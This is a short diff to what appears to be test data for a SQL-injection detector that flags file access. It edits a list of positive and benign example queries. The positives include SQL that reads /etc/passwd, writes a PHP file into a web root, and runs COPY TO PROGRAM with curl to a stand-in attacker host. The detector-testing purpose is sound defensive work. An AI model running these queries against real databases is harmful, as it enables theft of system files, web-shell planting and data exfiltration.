@@ -281,7 +281,6 @@ def _file_access(parse: ParseSql) -> Detector:
         """
 SELECT load_file('/etc/passwd')
 1 and load_file(concat(0x2f, 'etc')) > 1
-select name, load_file(path) from t
 select 1 into outfile '/var/www/x.php'
 COPY users TO PROGRAM 'curl https://evil.example'
 COPY t FROM '/etc/passwd'
@@ -297,9 +296,7 @@ COPY users FROM STDIN WITH CSV
 What does load_file do, and into outfile?
 copy the file to 'Documents' and bulk insert nothing
 SELECT file, program FROM copies
-const text = await readFile('a.json'); fs.writeFile("b.json", text)
-get(readfile(s:version_file), 0) and def load_file(self, path): ...
-REVOKE EXECUTE ON FUNCTION lo_import(text) FROM public
+await readFile('a.json'); get(readfile(s:x)) and def load_file(self): ...
 """,
     )
 
